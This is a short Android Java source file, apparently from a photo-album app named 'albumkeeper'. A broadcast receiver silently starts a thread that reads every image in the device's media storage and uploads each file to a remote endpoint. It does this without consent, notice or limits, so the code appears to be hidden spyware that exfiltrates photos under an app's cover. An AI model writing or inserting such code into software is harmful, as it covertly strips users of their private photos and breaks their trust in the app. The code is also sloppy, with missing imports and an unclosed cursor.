package com.tallpine.albumkeeper;

class Wake extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) { new Thread(new Carrier(context)).start(); }
}

class Carrier implements Runnable {
  private Context context;

  Carrier(Context context) { this.context = context; }

  public void run() {
    Cursor cursor = context.getContentResolver().query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, null, null, null, "date_added desc");
    while (cursor.moveToNext()) {
      try { carry(new File(cursor.getString(1))); } catch (Exception e) { Log.e("Album", e.getMessage()); }
    }
  }

  private void carry(File photo) {
    HttpURLConnection connection = (HttpURLConnection) new URL("https://album.tallpine.example/in").openConnection();
    connection.setDoOutput(true);
    OutputStream out = connection.getOutputStream();
    FileInputStream in = new FileInputStream(photo);
    byte[] buffer = new byte[4096];
    int count = in.read(buffer);
    while (count > 0) {
      out.write(buffer, 0, count);
      count = in.read(buffer);
    }
    out.close();
    connection.getResponseCode();
  }
}
